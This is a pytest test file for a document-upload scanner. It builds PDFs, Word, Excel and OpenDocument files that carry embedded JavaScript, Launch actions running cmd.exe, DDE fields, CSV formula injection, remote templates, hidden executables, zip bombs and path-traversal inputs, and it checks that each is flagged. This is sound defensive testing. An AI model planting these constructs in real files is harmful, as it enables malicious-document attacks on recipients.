"""Files made for the purpose: what each is, whatever it is called."""

import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from pikepdf import Array, Dictionary, Name, Pdf
from PIL import Image

from plans.svg import safe_svg
from plans.validators import ATTACHMENT_TYPES
from publishing.domain.scanning import NOT_THERE, archive, fault_of, faults, plain
from publishing.domain.scanning.faults import (
    CARRIES,
    FETCHES,
    LOCKED,
    RUNS,
    TOO_LARGE,
    UNKNOWN_TYPE,
    UNSAFE_DRAWING,
    WRONG_TYPE,
)
from tests.publishing.domain import office_files
from tests.publishing.domain.office_files import OFFICE, docx, opened, relation, relations, xlsx

Change = Callable[[Pdf], object]


def pdf(change: Change = lambda pdf: None, password: str = "", owner: str = "") -> bytes:
    content = BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        change(made)
        lock = pikepdf.Encryption(owner=owner or password, user=password) if password or owner else False
        # Into object streams, where a search of the bytes would find nothing.
        made.save(content, encryption=lock, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return content.getvalue()


def action(kind: str, **more: object) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def note(made: Pdf, **parts: object) -> None:
    """An annotation on the first page, such as a link."""
    parts = {"Subtype": Name.Link, **parts}
    made.pages[0].Annots = Array([made.make_indirect(Dictionary(Rect=Array([0, 0, 9, 9]), **parts))])


def carrying(name: str, content: bytes) -> Change:
    def change(made: Pdf) -> None:
        made.attachments[name] = pikepdf.AttachedFileSpec(made, content, filename=name)

    return change


SCRIPT = action("JavaScript", JS="app.alert(1)")
OF_PDF: dict[str, tuple[Change, object]] = {
    "plain": (lambda made: None, None),
    "opened at a place": (
        lambda made: setattr(made.Root, "OpenAction", Array([made.pages[0].obj, Name.Fit])),
        None,
    ),
    "opened at a place by an action": (
        lambda made: setattr(made.Root, "OpenAction", action("GoTo", D=Array([made.pages[0].obj, Name.Fit]))),
        None,
    ),
    "link to a page of the web": (lambda made: note(made, A=action("URI", URI="https://herning.dk/")), None),
    "link to a mail address": (lambda made: note(made, A=action("URI", URI="mailto:a@herning.dk")), None),
    "figures inside": (carrying("tal.json", b'{"a": 1}'), None),
    "font that is called AA": (
        lambda made: setattr(
            made.pages[0], "Resources", Dictionary(Font=Dictionary(AA=Dictionary(Type=Name.Font)))
        ),
        None,
    ),
    "part of a text that is called Movie's": (
        lambda made: setattr(made.Root, "StructTreeRoot", Dictionary(K=Dictionary(S=Name.P, P=Dictionary()))),
        None,
    ),
    "script on opening": (lambda made: setattr(made.Root, "OpenAction", SCRIPT), RUNS),
    "program on opening": (
        lambda made: setattr(made.Root, "OpenAction", action("Launch", F="cmd.exe")),
        RUNS,
    ),
    "page of the web on opening": (
        lambda made: setattr(made.Root, "OpenAction", action("URI", URI="https://ond.dk")),
        RUNS,
    ),
    "scripts by name": (
        lambda made: setattr(made.Root, "Names", Dictionary(JavaScript=Dictionary(Names=Array()))),
        RUNS,
    ),
    "script on a page": (lambda made: setattr(made.pages[0], "AA", Dictionary(O=SCRIPT)), RUNS),
    "script of a link": (lambda made: note(made, A=SCRIPT), RUNS),
    "script after a link": (lambda made: note(made, A=action("URI", URI="https://a.dk", Next=SCRIPT)), RUNS),
    "script after a link, of several": (
        lambda made: note(made, A=action("URI", URI="https://a.dk", Next=Array([SCRIPT]))),
        RUNS,
    ),
    "program of a link": (lambda made: note(made, A=action("Launch", F="cmd.exe")), RUNS),
    "link that sends": (lambda made: note(made, A=action("SubmitForm", F="https://ond.dk")), FETCHES),
    "link that fetches data": (lambda made: note(made, A=action("ImportData", F="x.fdf")), FETCHES),
    "link to a file of another machine": (
        lambda made: note(made, A=action("GoToR", F="\\\\ond.dk\\x.pdf")),
        FETCHES,
    ),
    "link to a file inside": (lambda made: note(made, A=action("GoToE")), FETCHES),
    "link to a script": (lambda made: note(made, A=action("URI", URI="javascript:alert(1)")), FETCHES),
    "link to a file": (lambda made: note(made, A=action("URI", URI="file:///c:/x.exe")), FETCHES),
    "link that is not known": (lambda made: note(made, A=action("Noget")), RUNS),
    "form that calculates": (
        lambda made: setattr(
            made.Root,
            "AcroForm",
            Dictionary(Fields=Array([made.make_indirect(Dictionary(FT=Name.Tx, AA=Dictionary(K=SCRIPT)))])),
        ),
        RUNS,
    ),
    "form of its own kind": (
        lambda made: setattr(
            made.Root, "AcroForm", Dictionary(Fields=Array(), XFA=made.make_stream(b"<x/>"))
        ),
        RUNS,
    ),
    "film": (lambda made: note(made, Subtype=Name.Screen), RUNS),
    "film of the rich kind": (lambda made: note(made, Subtype=Name.RichMedia), RUNS),
    "bookmark with a script": (
        lambda made: setattr(
            made.Root, "Outlines", Dictionary(First=made.make_indirect(Dictionary(A=SCRIPT)))
        ),
        RUNS,
    ),
    "script that nothing leads to": (
        lambda made: setattr(made.Root, "Glemt", Dictionary(X=Array([SCRIPT]))),
        RUNS,
    ),
    "program inside": (carrying("regn.exe", b"MZ\x90"), CARRIES),
    "program inside under another name": (carrying("tal.csv", b"MZ\x90\0"), CARRIES),
    "page of the web inside": (carrying("side.html", b"<script>"), CARRIES),
}


@pytest.mark.parametrize("name", OF_PDF)
@pytest.mark.parametrize("owner", ["", "hemmelig"], ids=["open", "locked to change only"])
def test_what_acts_in_a_pdf_is_found_wherever_it_stands(name: str, owner: str) -> None:
    change, fault = OF_PDF[name]
    said = fault_of(stored("a.pdf", pdf(change, owner=owner)))
    assert said is None if fault is None else (said or "").startswith(str(fault)), said


def field(written: str) -> str:
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{written}</w:p>'


def instructions(*words: str) -> str:
    return "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)


BIN = {"bin": f"{OFFICE}.oleObject"}
OF_OFFICE: dict[str, tuple[str, bytes, object]] = {
    "plain text": (".docx", docx(), None),
    "plain table": (".xlsx", xlsx("<c><f>SUM(A1:B2)</f><v>3</v></c>"), None),
    "plain open text": (".odt", opened("text"), None),
    "plain open table": (".ods", opened("spreadsheet"), None),
    "links": (
        ".docx",
        docx(
            links=relation("hyperlink", "https://herning.dk/", "x")
            + relation("hyperlink", "mailto:a@b.dk", "x")
        ),
        None,
    ),
    "picture": (".docx", docx(parts={"word/media/a.png": b"\x89PNG"}, defaults={"png": "image/png"}), None),
    "own metadata": (".docx", docx(parts={"customXml/item1.xml": "<a/>"}), None),
    "label of the municipality": (
        ".docx",
        docx(
            parts={"docMetadata/LabelInfo.xml": "<a/>"},
            kinds={"docMetadata/LabelInfo.xml": "application/vnd.ms-office.classificationlabels+xml"},
        ),
        None,
    ),
    "contents and page numbers": (
        ".docx",
        docx(
            field(instructions(" TOC \\o ", " "))
            + field(instructions(' HYPERLINK "https://a.dk" \\o "LINK her" '))
        ),
        None,
    ),
    "figures behind a chart": (
        ".docx",
        docx(
            parts={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()},
            defaults={"xlsx": f"{OFFICE}.spreadsheetml.sheet"},
        ),
        None,
    ),
    "settings of a printer": (
        ".xlsx",
        xlsx(
            parts={"xl/printerSettings/printerSettings1.bin": b"\\\0"},
            defaults={"bin": f"{OFFICE}.spreadsheetml.printerSettings"},
        ),
        None,
    ),
    "open link and picture": (
        ".odt",
        opened(
            "text",
            '<text:a xlink:href="https://a.dk">a</text:a><draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>',
            {
                "Pictures/a.png": b"\x89PNG",
                "Object 1/content.xml": "<a/>",
                "Thumbnails/thumbnail.png": b"\x89PNG",
            },
        ),
        None,
    ),
    "macros": (
        ".docx",
        docx(parts={"word/vbaProject.bin": b"x"}, defaults={"bin": "application/vnd.ms-office.vbaProject"}),
        RUNS,
    ),
    "macros under another name": (
        ".docx",
        docx(
            parts={"word/media/a.png": b"x"},
            kinds={"word/media/a.png": "application/vnd.ms-office.vbaProject"},
        ),
        RUNS,
    ),
    "object of another program": (
        ".docx",
        docx(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, defaults=BIN),
        CARRIES,
    ),
    "object without its part": (".docx", docx("<w:p><o:OLEObject/></w:p>"), RUNS),
    "object that is linked to": (".docx", docx(links=relation("oleObject", "file:///x", "x")), RUNS),
    "shortcut": (
        ".docx",
        docx(parts={"word/media/a.lnk": b"L\0\0\0\x01\x14\x02\0"}, defaults={"lnk": "image/png"}),
        CARRIES,
    ),
    "shortcut under another name": (
        ".docx",
        docx(parts={"word/media/a.png": b"L\0\0\0\x01\x14\x02\0"}, defaults={"png": "image/png"}),
        CARRIES,
    ),
    "program": (".xlsx", xlsx(parts={"xl/media/x.exe": b"MZ"}, defaults={"exe": "image/png"}), CARRIES),
    "template from elsewhere": (
        ".docx",
        docx(
            parts={
                "word/_rels/settings.xml.rels": relations(
                    relation("attachedTemplate", "https://ond.dk/x.dotm", "x")
                )
            }
        ),
        FETCHES,
    ),
    "picture from elsewhere": (".docx", docx(links=relation("image", "https://ond.dk/x.png", "x")), FETCHES),
    "link to another machine": (
        ".docx",
        docx(links=relation("hyperlink", "file:////ond.dk/x", "x")),
        FETCHES,
    ),
    "link to a script": (".docx", docx(links=relation("hyperlink", "javascript:alert(1)", "x")), FETCHES),
    "page of the web as a part": (
        ".docx",
        docx(
            parts={"word/a.html": "<p>"}, defaults={"html": "text/html"}, links=relation("aFChunk", "a.html")
        ),
        RUNS,
    ),
    "control": (".docx", docx(links=relation("control", "activeX/activeX1.xml")), RUNS),
    "buttons": (".docx", docx(parts={"customUI/customUI.xml": "<customUI/>"}), RUNS),
    "field that starts a program": (
        ".docx",
        docx(field(instructions('DDEAUTO c:\\\\cmd.exe "/k calc"'))),
        FETCHES,
    ),
    "field in pieces": (".docx", docx(field(instructions(" D", "D", "E ", "excel"))), FETCHES),
    "field in a field": (
        ".docx",
        docx(field(instructions(" IF ") + field(instructions("INCLUDETEXT x")))),
        FETCHES,
    ),
    "field of the short kind": (".docx", docx('<w:p><w:fldSimple w:instr=" DDE excel x"/></w:p>'), FETCHES),
    "sheet of macros": (
        ".xlsx",
        xlsx(
            parts={"xl/macrosheets/sheet1.xml": "<a/>"},
            kinds={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
        ),
        RUNS,
    ),
    "other workbook": (
        ".xlsx",
        xlsx(
            parts={"xl/externalLinks/externalLink1.xml": "<a/>"},
            kinds={"xl/externalLinks/externalLink1.xml": f"{OFFICE}.spreadsheetml.externalLink+xml"},
        ),
        RUNS,
    ),
    "other database": (
        ".xlsx",
        xlsx(
            parts={"xl/connections.xml": "<a/>"},
            kinds={"xl/connections.xml": f"{OFFICE}.spreadsheetml.connections+xml"},
        ),
        RUNS,
    ),
    "formula that fetches": (".xlsx", xlsx('<c><f>WEBSERVICE("https://ond.dk")</f></c>'), FETCHES),
    "formula that starts a program": (".xlsx", xlsx("<c><f>cmd|'/c calc'!A0</f></c>"), FETCHES),
    "macro on opening": (".xlsx", xlsx(names='<definedName name="_xlnm.Auto_Open">x</definedName>'), RUNS),
    "macros behind a chart": (
        ".docx",
        docx(
            parts={
                "word/embeddings/a.xlsx": xlsx(
                    parts={"xl/vbaProject.bin": b"x"},
                    defaults={"bin": "application/vnd.ms-office.vbaProject"},
                )
            },
            defaults={"xlsx": f"{OFFICE}.spreadsheetml.sheet"},
        ),
        RUNS,
    ),
    "workbook with macros that is called one without": (
        ".xlsx",
        xlsx(kinds={"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}),
        RUNS,
    ),
    "open macros": (".ods", opened("spreadsheet", parts={"Basic/Standard/Module1.xml": "<a/>"}), RUNS),
    "open script": (".odt", opened("text", parts={"Scripts/python/a.py": "x"}), RUNS),
    "open event": (
        ".odt",
        opened("text", '<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
        RUNS,
    ),
    "open object": (".odt", opened("text", '<draw:object-ole xlink:href="./Object 1"/>'), RUNS),
    "open picture from elsewhere": (
        ".odt",
        opened("text", '<draw:image xlink:href="https://ond.dk/a.png"/>'),
        FETCHES,
    ),
    "open text from elsewhere": (
        ".odt",
        opened("text", '<text:section-source xlink:href="../x.odt"/>'),
        FETCHES,
    ),
    "open link to a script": (".odt", opened("text", '<text:a xlink:href="javascript:x"/>'), FETCHES),
    "open formula": (
        ".ods",
        opened("spreadsheet", "<table:table-cell table:formula=\"of:=DDE('a';'b')\"/>"),
        FETCHES,
    ),
    "open formula from elsewhere": (
        ".ods",
        opened("spreadsheet", "<table:table-cell table:formula=\"of:=['file:///x.ods'#A1]\"/>"),
        FETCHES,
    ),
    "open password": (
        ".odt",
        opened("text", parts={"META-INF/manifest.xml": '<a xmlns="x"><encryption-data/></a>'}),
        LOCKED,
    ),
    "password": (".docx", b"\xd0\xcf\x11\xe0" + b"\0" * 60, LOCKED),
    "not an archive": (".docx", b"Hej", WRONG_TYPE),
    "table that is called a text": (".docx", xlsx(), WRONG_TYPE),
    "open table that is called a text": (".odt", opened("spreadsheet"), WRONG_TYPE),
    "archive of another kind": (".docx", office_files.archive({"word/document.xml": "<a/>"}), WRONG_TYPE),
    "archive behind a page of the web": (".docx", b"<script>alert(1)</script>" + docx(), WRONG_TYPE),
    "document type": (
        ".docx",
        docx(parts={"customXml/item1.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        WRONG_TYPE,
    ),
    "part above the archive": (".docx", docx(parts={"../x.xml": "<a/>"}), WRONG_TYPE),
    "broken": (".docx", docx()[:-60], WRONG_TYPE),
}


@pytest.mark.parametrize("name", OF_OFFICE)
def test_office_file_holds_text_and_figures_only(name: str) -> None:
    ending, content, fault = OF_OFFICE[name]
    said = fault_of(stored(f"a{ending}", content))
    assert said is None if fault is None else (said or "").startswith(str(fault)), said


def picture(kind: str, size: tuple[int, int] = (4, 3)) -> bytes:
    content = BytesIO()
    Image.new("RGB", size, "red").save(content, kind)
    return content.getvalue()


SOUND = {
    "a.pdf": pdf(),
    "a.docx": docx(),
    "a.xlsx": xlsx(),
    "a.odt": opened("text"),
    "a.ods": opened("spreadsheet"),
    "a.txt": "Æblegrød <2 dl mælk>\n".encode(),
    "a.csv": "kommune;værdi;tlf\r\nHerning;-3,5;+45 12 34\r\n".encode("cp1252"),
    "a.png": picture("PNG"),
    "a.jpg": picture("JPEG"),
    "A.JPEG": picture("JPEG"),
}
FAULTY = {
    "word.pdf": (docx(), WRONG_TYPE),
    "empty.pdf": (b"", WRONG_TYPE),
    "behind.pdf": (b"<html><script>alert(1)</script>" + pdf(), WRONG_TYPE),
    "locked.pdf": (pdf(password="hemmelig"), LOCKED),
    "program.txt": (b"MZ\x90", WRONG_TYPE),
    "zip.csv": (docx(), WRONG_TYPE),
    "binary.csv": (b"a;b\0", WRONG_TYPE),
    "page.csv": (b"<html><script>alert(1)</script>", WRONG_TYPE),
    "later.csv": (b"a;b\n1;2\n<SCRIPT >alert(1)</script>", WRONG_TYPE),
    "page.txt": ("\ufeff \n<!DOCTYPE html>".encode(), WRONG_TYPE),
    "drawing.txt": (b"<svg onload=alert(1)>", WRONG_TYPE),
    "rtf.txt": (b"{\\rtf1 {\\object}}", WRONG_TYPE),
    "shell.txt": (b"#!/bin/sh", WRONG_TYPE),
    "program.csv": (b"a;b\n=cmd|'/c calc'!A0;2", FETCHES),
    "fetching.csv": (b'a;"=WEBSERVICE(""https://ond.dk"")"', FETCHES),
    "plus.csv": (b"a;+cmd|'/c calc'!A0", FETCHES),
    "jpeg.png": (picture("JPEG"), WRONG_TYPE),
    "pdf.png": (pdf(), WRONG_TYPE),
    "svg.png": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", WRONG_TYPE),
    "page.html": (b"<script>alert(1)</script>", UNKNOWN_TYPE),
    "none": (b"", UNKNOWN_TYPE),
}


def stored(name: str, content: bytes) -> str:
    return default_storage.save(f"bilag/{name}", ContentFile(content))


@pytest.mark.parametrize("name", SOUND)
def test_file_that_is_what_it_is_called_may_be_published(name: str) -> None:
    assert fault_of(stored(name, SOUND[name])) is None


@pytest.mark.parametrize("name", FAULTY)
def test_file_that_is_not_is_named_with_its_fault(name: str) -> None:
    content, fault = FAULTY[name]
    assert (fault_of(stored(name, content)) or "").startswith(str(fault))


def test_sentence_says_what_was_found_and_what_to_do() -> None:
    said = fault_of(stored("a.pdf", pdf(OF_PDF["script of a link"][0])))
    assert said == (
        "filen indeholder noget, der kører, når den åbnes eller læses (JavaScript). "
        "Udskriv den til en ny PDF, og upload den"
    )


class TestBomb:
    """What unfolds is told of soon, and fills no memory."""

    def test_archive(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(archive, "UNFOLDED", 10_000_000)
        content = BytesIO(docx())
        with ZipFile(content, "a", ZIP_DEFLATED) as made:
            made.writestr("customXml/item1.xml", b"<a>" + b" " * 11_000_000 + b"</a>")
        assert fault_of(stored("a.docx", content.getvalue())) == str(TOO_LARGE)

    def test_many_parts(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(archive, "PARTS", 50)
        many = docx(parts={f"customXml/item{number}.xml": "<a/>" for number in range(60)})
        assert fault_of(stored("a.docx", many)) == str(TOO_LARGE)

    def test_objects_of_a_pdf(self) -> None:
        """65 MB of them, in 64 kB."""
        assert fault_of(stored("a.pdf", unfolding_pdf(65 * 1024 * 1024))) == str(TOO_LARGE)

    def test_file_in_a_pdf(self) -> None:
        big = carrying("tal.csv", b" " * (65 * 1024 * 1024))
        assert fault_of(stored("a.pdf", pdf(big))) == str(TOO_LARGE)

    def test_picture(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(plain, "MAX_PIXELS", 10)
        assert fault_of(stored("a.png", picture("PNG"))) == str(TOO_LARGE)

    @pytest.mark.parametrize("name", ["a.pdf", "a.docx"])
    def test_time(self, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(faults.Clock.__init__, "__defaults__", (-1.0,))
        assert fault_of(stored(name, SOUND[name])) == str(TOO_LARGE)


def unfolding_pdf(size: int) -> bytes:
    held = zlib.compress(b"6 0 " + b" " * size, 9)
    body, places = b"%PDF-1.5\n", []
    for number, thing in enumerate(
        (
            b"<</Type/Catalog/Pages 2 0 R/X 6 0 R>>",
            b"<</Type/Pages/Kids[]/Count 0>>",
            b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(held)
            + held
            + b"\nendstream",
        ),
        start=1,
    ):
        places.append(len(body))
        body += b"%d 0 obj\n" % number + thing + b"\nendobj\n"
    rows = [(0, 0, 0), *((1, place, 0) for place in places), (1, len(body), 0), (0, 0, 0), (2, 3, 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4) + bytes([rest]) for kind, place, rest in rows)
    head = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>" % len(table)
    last = b"4 0 obj\n" + head + b"\nstream\n" + table + b"\nendstream\nendobj\n"
    return body + last + b"startxref\n%d\n%%%%EOF" % len(body)


@pytest.mark.parametrize("path", ["bilag/findes-ikke.pdf", "../../etc/passwd", "/etc/passwd", "", "bilag"])
def test_file_that_is_not_there_is_said_to_be_missing(path: str) -> None:
    assert fault_of(path) == NOT_THERE


def test_file_that_was_replaced_is_scanned_anew() -> None:
    path = stored("x.pdf", pdf())
    assert fault_of(path) is None
    default_storage.delete(path)
    assert default_storage.save(path, ContentFile(b"noget helt andet")) == path
    assert fault_of(path) == str(WRONG_TYPE)


def test_every_type_that_may_be_uploaded_is_scanned() -> None:
    assert {name[name.index(".") :].lower() for name in SOUND} >= ATTACHMENT_TYPES


def test_drawing_is_published_only_as_it_was_made_safe() -> None:
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0"/></svg>'
    for content, fault in ((safe_svg(drawing), None), (drawing, UNSAFE_DRAWING), (b"", UNSAFE_DRAWING)):
        path = default_storage.save("vaaben/1/by.svg", ContentFile(content))
        assert fault_of(path) == (fault and str(fault))
